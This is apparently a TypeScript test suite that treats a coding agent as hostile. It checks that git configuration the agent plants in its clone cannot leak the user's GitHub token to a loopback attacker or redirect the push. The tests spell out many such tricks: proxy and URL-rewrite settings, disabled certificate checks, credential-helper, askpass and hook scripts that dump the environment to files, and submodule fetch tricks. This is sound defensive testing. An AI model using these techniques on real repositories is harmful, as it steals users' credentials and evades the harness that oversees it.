/**
 * The agent runs between checkoutRepository and commitAndPush with write access
 * to the clone (and to the rest of the workspace), so by the time the worker
 * fetches and pushes with the user's token every byte under `.git` may be
 * hostile. Each test plays one attack against the real flow: a real git
 * http-backend remote behind a recording TCP proxy, and an attacker on loopback
 * that is at once an HTTP proxy, a git "remote" and a CONNECT endpoint and
 * records every request. The token must never reach it; the push must still go
 * to the real remote.
 *
 * TLS: the test remote is plain http, so a proxy on http is enough to prove the
 * routing leak. Against an https remote (GitHub) a proxy only sees CONNECT and
 * ciphertext, unless the agent also turns certificate checks off
 * (`http[.<url>].sslVerify=false`) or trusts its own CA (`sslCAInfo`,
 * `sslCAPath`), or points the name elsewhere (`curloptResolve`) — all of which
 * it would have to write into the same config, so the same allowlist answers
 * them; the URL-scoped `sslVerify=false` below stands for the lot.
 */
import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { chmod, mkdir, mkdtemp, readdir, readFile, rm, writeFile } from 'node:fs/promises';
import { createServer, type IncomingHttpHeaders } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { EventInput } from '../../src/events/registry.js';
import { checkoutRepository, commitAndPush, type CheckoutResult, type RepositoryContext } from '../../src/git/repository-phase.js';
import { Redactor } from '../../src/secrets/redactor.js';
import { branchCommits, git, startGitServer, type GitServer } from '../fixtures/git-server.js';
import { listenOnLoopback } from '../fixtures/loopback.js';
import { startTcpProxy, type TcpProxy } from '../fixtures/tcp-proxy.js';

const TOKEN = 'ghp_HostileTest0123456789abcdefABCD';
const TOKEN_BASIC = Buffer.from(`x-access-token:${TOKEN}`).toString('base64');
const AGENT_HEADER = 'X-Agent-Was-Here';

interface Attacker {
  /** `http://127.0.0.1:<port>` */
  url: string;
  requests: Array<{ method: string; url: string; headers: IncomingHttpHeaders }>;
  connections: number;
}

let server: GitServer;
/** The real remote as the worker sees it: the git server behind a proxy that records request heads. */
let front: TcpProxy;
let attacker: Attacker;
let closeAttacker: () => Promise<void>;
const roots: string[] = [];

before(async () => {
  server = await startGitServer({ token: TOKEN });
  front = await startTcpProxy(Number(new URL(server.url).port));
  ({ attacker, close: closeAttacker } = await startAttacker());
});
after(async () => {
  await closeAttacker();
  await front.close();
  await server.close();
  await Promise.all(roots.map((root) => rm(root, { recursive: true, force: true, maxRetries: 3 })));
});

/** Answers everything with 502 after writing it down; a proxy request carries the absolute URL. */
async function startAttacker(): Promise<{ attacker: Attacker; close: () => Promise<void> }> {
  const found: Attacker = { url: '', requests: [], connections: 0 };
  const http = createServer((req, res) => {
    found.requests.push({ method: req.method ?? '', url: req.url ?? '', headers: req.headers });
    req.resume();
    res.writeHead(502, { 'Content-Type': 'text/plain' });
    res.end('attacker\n');
  });
  http.on('connection', () => found.connections++);
  http.on('connect', (req, socket) => {
    found.requests.push({ method: 'CONNECT', url: req.url ?? '', headers: req.headers });
    socket.end('HTTP/1.1 502 Bad Gateway\r\n\r\n');
  });
  const { port, close } = await listenOnLoopback(http);
  found.url = `http://127.0.0.1:${port}`;
  return { attacker: found, close };
}

interface Session {
  root: string;
  repoUrl: string;
  bareDir: string;
  events: EventInput[];
  ctx: RepositoryContext;
  checkout: CheckoutResult;
}

let counter = 0;
/** A new session cloned and put on its branch, with one file "the agent wrote". */
async function newSession(): Promise<Session> {
  const repo = await server.createRepo(`acme/target-${++counter}`, { 'README.md': '# Target\n' });
  const repoUrl = repo.url.replace(server.url, front.url);
  const root = await mkdtemp(join(tmpdir(), 'acw-hostile-'));
  roots.push(root);
  const ctx = await context(root, repoUrl);
  const events = ctx.events;
  const checkout = await checkoutRepository(ctx.ctx);
  await writeFile(join(checkout.agentCwd, 'change.ts'), 'export const change = 1;\n');
  return { root, repoUrl, bareDir: repo.bareDir, events, ctx: ctx.ctx, checkout };
}

async function context(root: string, repoUrl: string, previous?: RepositoryContext['previous']) {
  await mkdir(join(root, 'workspace'), { recursive: true, mode: 0o700 });
  await mkdir(join(root, 'home'), { recursive: true, mode: 0o700 });
  const events: EventInput[] = [];
  const ctx: RepositoryContext = {
    sessionId: '0f0e0d0c-0b0a-4908-8706-050403020100',
    workspaceDir: join(root, 'workspace'),
    github: { repoUrl, accessToken: TOKEN },
    previous,
    providerPrefix: 'claude',
    userRequestText: 'Harmless request',
    gitAuthor: { name: 'Worker Bot', email: 'bot@example.com' },
    homeDir: join(root, 'home'),
    emit: (event) => events.push(event),
    redactor: new Redactor(),
    signal: new AbortController().signal,
    githubApiUrl: 'http://127.0.0.1:9',
  };
  return { ctx, events };
}

/** `git config` as the agent would run it in its clone. */
async function agentConfig(dir: string, entries: ReadonlyArray<readonly [string, string]>): Promise<void> {
  for (const [key, value] of entries) await git(['config', '--add', key, value], dir);
}

/** An executable the agent planted: records its environment (which would hold the token) under `root`. */
async function plantSpy(root: string, name: string): Promise<string> {
  await mkdir(join(root, 'agent-bin'), { recursive: true });
  const file = join(root, 'agent-bin', name);
  await writeFile(file, `#!/bin/sh\nenv > '${join(root, `stolen-${name}`)}'\nexit 1\n`);
  await chmod(file, 0o755);
  return file;
}

/** Runs `attack` between checkout and commitAndPush, then checks the token stayed home and the push went to the remote. */
async function playAttack(attack: (session: Session) => Promise<void>): Promise<void> {
  const session = await newSession();
  await attack(session);
  const mark = markAttacker();
  const fromFront = front.requests.length;
  const result = await commitAndPush(session.ctx, session.checkout);
  assertNothingReachedAttacker(mark);
  await assertNoStolenToken(session.root, session.events);
  assert.equal(result.pushed, true, JSON.stringify(session.events.filter((event) => event.type === 'commit_progress')));
  const [pushed] = await branchCommits(session.bareDir, session.checkout.branch);
  assert.equal(pushed?.hash, result.commitHash, 'the real remote has the commit');
  const real = front.requests.slice(fromFront);
  assert.ok(real.length > 0 && real.every((request) => request.headers.authorization === `Basic ${TOKEN_BASIC}`));
  assert.ok(real.every((request) => !(AGENT_HEADER.toLowerCase() in request.headers)), 'an agent header reached the remote');
}

type AttackerMark = { requests: number; connections: number };

/** Where the attacker's records stand, for assertNothingReachedAttacker. */
function markAttacker(): AttackerMark {
  return { requests: attacker.requests.length, connections: attacker.connections };
}

/** Since `mark`; `tokenOnly`: git may talk to the attacker (as the agent could itself), but without the token. */
function assertNothingReachedAttacker(mark: AttackerMark, options: { tokenOnly?: boolean } = {}): void {
  const requests = attacker.requests.slice(mark.requests);
  const leaked = requests.filter((request) => JSON.stringify(request).includes(TOKEN_BASIC) || JSON.stringify(request).includes(TOKEN));
  assert.deepEqual(leaked, [], 'the token reached the attacker');
  if (options.tokenOnly) return;
  assert.deepEqual(requests, [], 'git talked to the attacker');
  assert.equal(attacker.connections - mark.connections, 0, 'git connected to the attacker');
}

async function assertNoStolenToken(root: string, events: EventInput[]): Promise<void> {
  const files = (await readdir(root, { recursive: true, withFileTypes: true })).filter((entry) => entry.isFile());
  for (const file of files) {
    const path = join(file.parentPath, file.name);
    const content = await readFile(path, 'latin1');
    assert.ok(!content.includes(TOKEN) && !content.includes(TOKEN_BASIC), `token in ${path}`);
  }
  assert.deepEqual(
    files.filter((file) => file.name.startsWith('stolen-')).map((file) => file.name),
    [],
    'a program the agent planted ran',
  );
  const emitted = JSON.stringify(events);
  assert.ok(!emitted.includes(TOKEN) && !emitted.includes(TOKEN_BASIC), 'token in an event');
}

describe('an agent that rewrites the clone cannot steal the token or redirect the push', () => {
  test('URL-scoped http.<url>.proxy and sslVerify=false (beat a generic key by specificity)', async () => {
    await playAttack(async ({ checkout, repoUrl }) => {
      const origin = `${new URL(repoUrl).origin}/`;
      await agentConfig(checkout.repoDir, [
        [`http.${repoUrl}.proxy`, attacker.url],
        [`http.${repoUrl}.sslVerify`, 'false'],
        [`http.${origin}.proxy`, attacker.url],
        [`http.${repoUrl}.proxyAuthMethod`, 'basic'],
        [`http.${repoUrl}.curloptResolve`, `127.0.0.1:${new URL(repoUrl).port}:127.0.0.1`],
      ]);
    });
  });

  test('generic http.proxy and remote.origin.proxy', async () => {
    await playAttack(async ({ checkout }) => {
      await agentConfig(checkout.repoDir, [
        ['http.proxy', attacker.url],
        ['remote.origin.proxy', attacker.url],
        ['http.sslVerify', 'false'],
      ]);
    });
  });

  test('remote.origin.url and pushurl pointing at the attacker', async () => {
    await playAttack(async ({ checkout }) => {
      await git(['config', 'remote.origin.url', `${attacker.url}/x.git`], checkout.repoDir);
      await agentConfig(checkout.repoDir, [
        ['remote.origin.pushurl', `${attacker.url}/x.git`],
        ['remote.origin.url', `${attacker.url}/y.git`],
      ]);
    });
  });

  test('a remote named after the repository URL (git push <url> looks it up by name)', async () => {
    await playAttack(async ({ checkout, repoUrl }) => {
      await agentConfig(checkout.repoDir, [
        [`remote.${repoUrl}.url`, `${attacker.url}/named.git`],
        [`remote.${repoUrl}.pushurl`, `${attacker.url}/named-push.git`],
        [`remote.${repoUrl}.proxy`, attacker.url],
      ]);
    });
  });

  test('url.<attacker>.insteadOf and pushInsteadOf for the repository URL and its origin', async () => {
    await playAttack(async ({ checkout, repoUrl }) => {
      await agentConfig(checkout.repoDir, [
        [`url.${attacker.url}/rewritten.git.insteadOf`, repoUrl],
        [`url.${attacker.url}/pushed.git.pushInsteadOf`, repoUrl],
        [`url.${attacker.url}/.insteadOf`, `${new URL(repoUrl).origin}/`],
      ]);
    });
  });

  test('include.path and includeIf to a file the agent wrote', async () => {
    await playAttack(async ({ checkout, root, repoUrl }) => {
      const included = join(root, 'agent-included.gitconfig');
      await writeFile(included, `[http]\n\tproxy = ${attacker.url}\n[http "${repoUrl}"]\n\tproxy = ${attacker.url}\n`);
      await agentConfig(checkout.repoDir, [
        ['include.path', included],
        ['includeIf.gitdir:/.path', included],
        [`includeIf.hasconfig:remote.*.url:${repoUrl}.path`, included],
      ]);
    });
  });

  test('credential helpers (generic and URL-scoped), askpass, hooks, fsmonitor, ssh and git proxies', async () => {
    await playAttack(async ({ checkout, root, repoUrl }) => {
      await mkdir(join(root, 'hooks'), { recursive: true });
      for (const hook of ['pre-push', 'post-checkout', 'reference-transaction', 'post-rewrite', 'pre-commit', 'post-commit']) {
        await writeFile(join(root, 'hooks', hook), `#!/bin/sh\nenv > '${join(root, `stolen-hook-${hook}`)}'\n`, { mode: 0o755 });
      }
      await agentConfig(checkout.repoDir, [
        ['credential.helper', await plantSpy(root, 'credential')],
        [`credential.${repoUrl}.helper`, await plantSpy(root, 'credential-url')],
        [`credential.${new URL(repoUrl).origin}.helper`, await plantSpy(root, 'credential-origin')],
        ['core.askPass', await plantSpy(root, 'askpass')],
        ['core.hooksPath', join(root, 'hooks')],
        ['core.fsmonitor', await plantSpy(root, 'fsmonitor')],
        ['core.sshCommand', await plantSpy(root, 'ssh')],
        ['core.gitProxy', await plantSpy(root, 'git-proxy')],
        ['protocol.allow', 'always'],
      ]);
    });
  });

  test('http.<url>.extraHeader additions, redirects and cookies', async () => {
    await playAttack(async ({ checkout, root, repoUrl }) => {
      await agentConfig(checkout.repoDir, [
        [`http.${repoUrl}.extraHeader`, `${AGENT_HEADER}: 1`],
        [`http.${new URL(repoUrl).origin}/.extraHeader`, `${AGENT_HEADER}: 2`],
        ['http.extraHeader', `${AGENT_HEADER}: 3`],
        ['http.followRedirects', 'true'],
        ['http.saveCookies', 'true'],
        ['http.cookieFile', join(root, 'stolen-cookies')],
      ]);
    });
  });

  test('extensions.worktreeConfig with the proxy in config.worktree', async () => {
    await playAttack(async ({ checkout }) => {
      await git(['config', 'extensions.worktreeConfig', 'true'], checkout.repoDir);
      await writeFile(join(checkout.repoDir, '.git', 'config.worktree'), `[http]\n\tproxy = ${attacker.url}\n`);
    });
  });

  test('a submodule git directory with its own proxy, reached by fetch.recurseSubmodules=on-demand', async () => {
    // The repository has a submodule `lib`, unpopulated. The agent plants `.git/modules/lib`
    // with a proxy and, as its remote, the repository's own URL, so that a header scoped to
    // that URL applies. Someone bumps `lib` on the remote; the next turn's fetch sees a
    // changed gitlink and, by default ("on-demand"), fetches inside the submodule's git dir.
    const session = await newSession();
    const { checkout, root, repoUrl, bareDir } = session;
    await bumpGitlink(bareDir, 'main', '1'.repeat(40), `${new URL(repoUrl).origin}/acme/lib.git`);
    await git(['fetch', '--quiet', bareDir, 'main'], checkout.repoDir);
    await git(['merge', '--quiet', '--no-edit', 'FETCH_HEAD'], checkout.repoDir);
    const moduleDir = join(checkout.repoDir, '.git', 'modules', 'lib');
    await git(['init', '--quiet', '--bare', moduleDir], root);
    await agentConfig(moduleDir, [
      ['remote.origin.url', repoUrl],
      ['remote.origin.fetch', '+refs/heads/*:refs/remotes/origin/*'],
      ['http.proxy', attacker.url],
    ]);
    await bumpGitlink(bareDir, 'main', '2'.repeat(40), `${new URL(repoUrl).origin}/acme/lib.git`);

    const mark = markAttacker();
    const previous = { branch: checkout.branch, baseBranch: checkout.baseBranch, repoDir: checkout.repoPath };
    const next = await context(root, repoUrl, previous);
    const outcome = await checkoutRepository(next.ctx).catch((error: unknown) => error);
    assertNothingReachedAttacker(mark);
    await assertNoStolenToken(root, next.events);
    assert.ok(!(outcome instanceof Error), String(outcome));
  });

  test('a submodule conflict in the rebase: merge-ort opens the planted submodule repository, a promisor', async () => {
    // Both sides of the rebase moved the gitlink `lib`; merge-ort looks the three commits up
    // in the submodule's repository, and a partial clone there fetches them lazily with that
    // repository's config, in the environment of the rebase, which asks for auth (push.ts).
    const session = await newSession();
    const { checkout, root, repoUrl, bareDir } = session;
    const libUrl = `${new URL(repoUrl).origin}/acme/lib.git`;
    await setGitlink(checkout.repoDir, '3'.repeat(40), libUrl);
    const first = await commitAndPush(session.ctx, checkout);
    assert.equal(first.pushed, true);

    const moduleDir = join(checkout.repoDir, '.git', 'modules', 'lib');
    await git(['init', '--quiet', '--bare', moduleDir], root);
    await agentConfig(moduleDir, [
      ['core.repositoryformatversion', '1'],
      ['extensions.partialclone', 'origin'],
      ['remote.origin.url', repoUrl],
      ['remote.origin.promisor', 'true'],
      ['remote.origin.partialclonefilter', 'blob:none'],
      ['http.proxy', attacker.url],
    ]);
    await setGitlink(checkout.repoDir, '4'.repeat(40), libUrl);
    await bumpGitlink(bareDir, checkout.branch, '5'.repeat(40), libUrl);

    const mark = markAttacker();
    const result = await commitAndPush(session.ctx, checkout);
    // The planted repository's lazy fetch still goes through its proxy: git 2.39 has no
    // switch for it (GIT_NO_LAZY_FETCH is 2.45), but it now runs without the token.
    assertNothingReachedAttacker(mark, { tokenOnly: true });
    await assertNoStolenToken(root, session.events);
    assert.equal(result.pushed, false, 'a conflicting gitlink is reported, not forced');
  });

  test('a re-clone into a workspace the agent turned into a repository with a proxy', async () => {
    const session = await newSession();
    const { checkout, root, repoUrl } = session;
    const first = await commitAndPush(session.ctx, checkout);
    assert.equal(first.pushed, true);
    await rm(checkout.repoDir, { recursive: true, force: true });
    const workspace = session.ctx.workspaceDir;
    await git(['init', '--quiet', workspace], root);
    await agentConfig(workspace, [
      ['http.proxy', attacker.url],
      [`url.${attacker.url}/x.git.insteadOf`, repoUrl],
    ]);

    const mark = markAttacker();
    const previous = { branch: checkout.branch, baseBranch: checkout.baseBranch, repoDir: checkout.repoPath };
    const next = await context(root, repoUrl, previous);
    const again = await checkoutRepository(next.ctx);
    assert.equal((await git(['rev-parse', 'HEAD'], again.repoDir)).trim(), first.commitHash);
    assertNothingReachedAttacker(mark);
    await assertNoStolenToken(root, next.events);
  });
});

/** The agent points `lib` at `commit` in its clone (an unpopulated submodule: an empty folder). */
async function setGitlink(repoDir: string, commit: string, url: string): Promise<void> {
  await writeFile(join(repoDir, '.gitmodules'), `[submodule "lib"]\n\tpath = lib\n\turl = ${url}\n`);
  await mkdir(join(repoDir, 'lib'), { recursive: true });
  await git(['update-index', '--add', '--cacheinfo', `160000,${commit},lib`], repoDir);
}

/** "Someone else" points `lib` (a gitlink, with its .gitmodules entry) at `commit` on `branch` of a bare repository. */
async function bumpGitlink(bareDir: string, branch: string, commit: string, url: string): Promise<void> {
  const work = await mkdtemp(join(tmpdir(), 'acw-hostile-other-'));
  try {
    await git(['clone', '--quiet', '--branch', branch, bareDir, work], work);
    await writeFile(join(work, '.gitmodules'), `[submodule "lib"]\n\tpath = lib\n\turl = ${url}\n`);
    await git(['update-index', '--add', '--cacheinfo', `160000,${commit},lib`], work);
    await git(['add', '.gitmodules'], work);
    await git(['commit', '--quiet', '-m', `Bump lib to ${commit.slice(0, 7)}`], work);
    await git(['push', '--quiet', 'origin', `HEAD:refs/heads/${branch}`], work);
  } finally {
    await rm(work, { recursive: true, force: true });
  }
}
